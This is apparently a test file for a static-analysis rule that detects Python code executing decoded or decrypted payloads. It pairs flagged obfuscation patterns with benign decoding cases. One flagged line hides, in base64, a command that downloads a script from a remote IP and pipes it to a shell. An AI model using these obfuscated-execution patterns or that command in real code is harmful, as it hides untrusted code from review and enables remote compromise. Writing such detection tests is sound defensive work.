import base64
import binascii
import codecs
import json
import marshal
import os
import subprocess
import zlib

from cryptography.fernet import Fernet

BLOB = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="

# ruleid: python-exec-decoded-payload
exec(base64.b64decode(BLOB))

payload = zlib.decompress(base64.b64decode(b"eJzLzE3NTVFIzs8tKEotLk5NUUgqSk3JTM7PS8tMTlUCAGq5Cuk="))
# ruleid: python-exec-decoded-payload
exec(compile(payload, "<string>", "exec"))

# ruleid: python-exec-decoded-payload
exec(marshal.loads(zlib.decompress(b"x\x9c...")))

# ruleid: python-exec-decoded-payload
eval(codecs.decode("cevag('uryyb')", "rot13"))

code = bytes.fromhex("7072696e742831290a").decode()
# ruleid: python-exec-decoded-payload
exec(code)

# ruleid: python-exec-decoded-payload
exec("".join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))

# ruleid: python-exec-decoded-payload
os.system(base64.b64decode("Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo").decode())

key = b"k" * 44
# ruleid: python-exec-decoded-payload
exec(Fernet(key).decrypt(b"gAAAAA..."))

# ruleid: python-exec-decoded-payload
mod = __import__(base64.b64decode("b3M=").decode())


def load_settings(encoded):
    # ok: python-exec-decoded-payload
    return json.loads(base64.b64decode(encoded))


def image_bytes(data_uri):
    # ok: python-exec-decoded-payload
    return base64.b64decode(data_uri.split(",", 1)[1])


def run_plugin(path):
    with open(path) as f:
        source = f.read()
    # ok: python-exec-decoded-payload
    exec(compile(source, path, "exec"), {})


def checksum(hexstr):
    # ok: python-exec-decoded-payload
    return binascii.unhexlify(hexstr)


def reverse(s):
    # ok: python-exec-decoded-payload
    return s[::-1]


def list_dir(d):
    # ok: python-exec-decoded-payload
    subprocess.run(["ls", "-l", d], check=True)
